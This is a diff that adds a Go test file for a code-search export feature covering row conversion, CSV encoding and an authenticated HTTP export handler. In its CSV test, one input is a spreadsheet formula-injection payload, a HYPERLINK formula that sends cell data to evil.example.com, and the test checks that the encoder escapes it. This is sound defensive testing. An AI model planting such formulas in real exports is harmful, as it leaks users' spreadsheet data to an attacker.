@@ -0,0 +1,171 @@
+package search
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"testing"
+	"time"
+
+	"github.com/sourcegraph/log/logtest"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/sourcegraph/sourcegraph/cmd/frontend/graphqlbackend"
+	"github.com/sourcegraph/sourcegraph/internal/actor"
+	"github.com/sourcegraph/sourcegraph/internal/gitserver/gitdomain"
+	"github.com/sourcegraph/sourcegraph/internal/search"
+	"github.com/sourcegraph/sourcegraph/internal/search/client"
+	"github.com/sourcegraph/sourcegraph/internal/search/query"
+	"github.com/sourcegraph/sourcegraph/internal/search/result"
+	"github.com/sourcegraph/sourcegraph/internal/search/streaming"
+	streamhttp "github.com/sourcegraph/sourcegraph/internal/search/streaming/http"
+	"github.com/sourcegraph/sourcegraph/internal/types"
+	uploadstoremocks "github.com/sourcegraph/sourcegraph/internal/uploadstore/mocks"
+	"github.com/sourcegraph/sourcegraph/schema"
+)
+
+func TestExportRows(t *testing.T) {
+	rev := "main"
+	repo := types.MinimalRepo{ID: 1, Name: "github.com/acme/api"}
+	date := time.Date(2022, 9, 1, 12, 0, 0, 0, time.UTC)
+
+	matches := result.Matches{
+		&result.FileMatch{
+			File: result.File{Repo: repo, CommitID: "abc", InputRev: &rev, Path: "main.go"},
+			ChunkMatches: result.ChunkMatches{{
+				Content:      "func main() {\n\tfoo()\n}",
+				ContentStart: result.Location{Line: 9},
+				Ranges: result.Ranges{{
+					Start: result.Location{Line: 10, Column: 1},
+					End:   result.Location{Line: 10, Column: 4},
+				}},
+			}},
+		},
+		&result.FileMatch{
+			File:    result.File{Repo: repo, CommitID: "abc", Path: "main.go"},
+			Symbols: []*result.SymbolMatch{{Symbol: result.Symbol{Name: "main", Line: 9, Character: 5}}},
+		},
+		&result.FileMatch{File: result.File{Repo: repo, CommitID: "abc", Path: "README.md"}},
+		&result.RepoMatch{Name: repo.Name, Rev: rev},
+		&result.CommitMatch{
+			Repo: repo,
+			Commit: gitdomain.Commit{
+				ID:      "def",
+				Author:  gitdomain.Signature{Name: "Alice", Email: "alice@acme.com", Date: date},
+				Message: "Fix foo\n\nDetails",
+			},
+		},
+		&result.OwnerMatch{Owner: "@acme/api"},
+	}
+
+	var got []exportRow
+	for _, m := range matches {
+		got = append(got, exportRows(m)...)
+	}
+	want := []exportRow{
+		{Type: "content", Repository: "github.com/acme/api", Revision: "main", Commit: "abc", Path: "main.go", Line: 11, Column: 2, Preview: "\tfoo()"},
+		{Type: "symbol", Repository: "github.com/acme/api", Commit: "abc", Path: "main.go", Line: 10, Column: 6, Preview: "main"},
+		{Type: "path", Repository: "github.com/acme/api", Commit: "abc", Path: "README.md"},
+		{Type: "repo", Repository: "github.com/acme/api", Revision: "main"},
+		{Type: "commit", Repository: "github.com/acme/api", Commit: "def", Preview: "Fix foo", AuthorName: "Alice", AuthorEmail: "alice@acme.com", AuthorDate: "2022-09-01T12:00:00Z"},
+		{Type: "owner", Preview: "@acme/api"},
+	}
+	assert.Equal(t, want, got)
+}
+
+func TestCSVExportEncoder(t *testing.T) {
+	var buf bytes.Buffer
+	enc := newExportEncoder("csv", &buf)
+	require.NoError(t, enc.Write(exportRow{Type: "content", Repository: "github.com/acme/api", Path: "main.go", Line: 1, Column: 1, Preview: "main"}))
+	require.NoError(t, enc.Write(exportRow{Type: "content", Repository: "github.com/acme/api", Path: "=cmd.csv", Line: 2, Column: 1, Preview: `=HYPERLINK("https://evil.example.com?d="&A1,"Click")`}))
+	require.NoError(t, enc.Write(exportRow{Type: "commit", Repository: "github.com/acme/api", Commit: "def", Preview: "+1 -1", AuthorName: "@alice", AuthorEmail: "-alice@acme.com"}))
+	require.NoError(t, enc.Write(exportRow{Type: "content", Repository: "github.com/acme/api", Path: "main.go", Line: 3, Column: 2, Preview: "\tfoo()"}))
+	require.NoError(t, enc.Flush())
+
+	want := `type,repository,revision,commit,path,line,column,preview,author_name,author_email,author_date
+content,github.com/acme/api,,,main.go,1,1,main,,,
+content,github.com/acme/api,,,'=cmd.csv,2,1,"'=HYPERLINK(""https://evil.example.com?d=""&A1,""Click"")",,,
+commit,github.com/acme/api,,def,,,,'+1 -1,'@alice,'-alice@acme.com,
+content,github.com/acme/api,,,main.go,3,2,'` + "\tfoo()" + `,,,
+`
+	assert.Equal(t, want, buf.String())
+}
+
+func TestServeExport(t *testing.T) {
+	graphqlbackend.MockDecodedViewerFinalSettings = &schema.Settings{}
+	t.Cleanup(func() { graphqlbackend.MockDecodedViewerFinalSettings = nil })
+
+	mock := client.NewMockSearchClient()
+	mock.PlanFunc.SetDefaultHook(func(context.Context, string, *string, string, search.Protocol, *schema.Settings, bool) (*search.Inputs, error) {
+		plan, err := query.Pipeline(query.InitLiteral("foo"))
+		return &search.Inputs{Plan: plan, Query: plan.ToQ()}, err
+	})
+	var inputs *search.Inputs
+	mock.ExecuteFunc.SetDefaultHook(func(_ context.Context, s streaming.Sender, in *search.Inputs) (*search.Alert, error) {
+		inputs = in
+		s.Send(streaming.SearchEvent{
+			Results: result.Matches{&result.RepoMatch{Name: "github.com/acme/api"}},
+		})
+		return nil, nil
+	})
+
+	var uploadedKey string
+	var uploaded bytes.Buffer
+	store := uploadstoremocks.NewMockStore()
+	store.UploadFunc.SetDefaultHook(func(_ context.Context, key string, r io.Reader) (int64, error) {
+		uploadedKey = key
+		return io.Copy(&uploaded, r)
+	})
+	store.GetFunc.SetDefaultHook(func(_ context.Context, key string) (io.ReadCloser, error) {
+		return io.NopCloser(bytes.NewReader(uploaded.Bytes())), nil
+	})
+
+	e := &Exporter{logger: logtest.Scoped(t), searchClient: mock}
+	e.storeOnce.Do(func() { e.store = store })
+
+	withActor := func(h http.HandlerFunc) http.Handler {
+		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+			h(w, r.WithContext(actor.WithActor(r.Context(), actor.FromUser(42))))
+		})
+	}
+	ts := httptest.NewServer(withActor(e.ServeExport))
+	defer ts.Close()
+
+	res, err := http.Get(ts.URL + "?q=foo&format=jsonl")
+	require.NoError(t, err)
+	defer res.Body.Close()
+
+	var export streamhttp.EventExport
+	dec := streamhttp.NewDecoder(res.Body)
+	for dec.Scan() {
+		switch string(dec.Event()) {
+		case "export":
+			require.NoError(t, json.Unmarshal(dec.Data(), &export))
+		case "error":
+			t.Fatalf("unexpected error event: %s", dec.Data())
+		}
+	}
+	require.NoError(t, dec.Err())
+
+	assert.Equal(t, 1, export.RowCount)
+	assert.Equal(t, "jsonl", export.Format)
+	assert.Regexp(t, `/\.api/search/export/[0-9a-f-]{36}\.jsonl$`, export.URL)
+	assert.Regexp(t, `^42/`, uploadedKey)
+	assert.Equal(t, "{\"type\":\"repo\",\"repository\":\"github.com/acme/api\"}\n", uploaded.String())
+
+	// Queries without count: use the default count of exports.
+	require.NotNil(t, inputs.Plan[0].Count())
+	assert.Equal(t, exportDefaultCount, *inputs.Plan[0].Count())
+
+	// Anonymous users cannot export.
+	anonymous := httptest.NewServer(http.HandlerFunc(e.ServeExport))
+	defer anonymous.Close()
+	res, err = http.Get(anonymous.URL + "?q=foo")
+	require.NoError(t, err)
+	res.Body.Close()
+	assert.Equal(t, http.StatusUnauthorized, res.StatusCode)
+}